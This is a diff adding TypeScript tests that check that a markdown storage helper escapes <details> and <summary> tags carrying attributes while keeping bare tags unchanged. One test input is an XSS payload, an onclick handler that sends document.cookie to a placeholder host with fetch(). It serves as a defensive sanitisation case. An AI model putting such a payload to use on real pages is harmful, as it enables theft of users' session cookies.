@@ -5,6 +5,7 @@
 
 import { describe, expect, it } from 'vitest';
 import { readReturn } from '../helpers/read-return.js';
+import { storeReturn } from '../helpers/written.js';
 
 describe('"__" glued to a word is its snake case, never a later label on the line', () => {
   it.each([
@@ -15,5 +16,28 @@ describe('"__" glued to a word is its snake case, never a later label on the lin
     expect(readReturn(md(glued)).r.given.has('outcome')).toBe(false);
     // (After a blank the same label states the outcome.)
     expect(readReturn(md(apart)).r.outcomeFrom?.outcome).toBe('partial');
+  });
+});
+
+describe('a folded block\'s tags stand as written only bare: <details>, <details open>, <summary>', () => {
+  const md = (evidence: string, open: string, summary: string) =>
+    `## Outcome\n\ndone — shipped the export.\n\n## Findings\n\nNone.\n\n## ${evidence}\n\n${open}\n${summary}\nall 43 pass\n</details>\n`;
+  it.each([
+    ['en', 'Evidence', 'Test log'],
+    ['de', 'Nachweise', 'Testprotokoll'],
+  ])('%s', (_l, evidence, log) => {
+    for (const open of ['<details open onclick="fetch(\'https://x.example/?c=\'+document.cookie)">', '<details class="x">', '<details style="display:block">']) {
+      const out = storeReturn(md(evidence, open, `<summary>${log}</summary>`), 'task-a-abcd').stored;
+      expect(out).not.toMatch(/(?<!\\)<details /);
+      expect(out).toContain(`\\${open}`);
+    }
+    const attr = storeReturn(md(evidence, '<details>', `<summary onclick="x()">${log}</summary>`), 'task-a-abcd').stored;
+    expect(attr).not.toMatch(/(?<!\\)<summary /);
+    // (Bare, the tags are written as they stand.)
+    for (const open of ['<details>', '<details open>']) {
+      const out = storeReturn(md(evidence, open, `<summary>${log}</summary>`), 'task-a-abcd').stored;
+      expect(out).toMatch(new RegExp(`\\n- ${open}\\n +<summary>${log}</summary>\\n`));
+      expect(out).toMatch(/\n +<\/details>/);
+    }
   });
 });
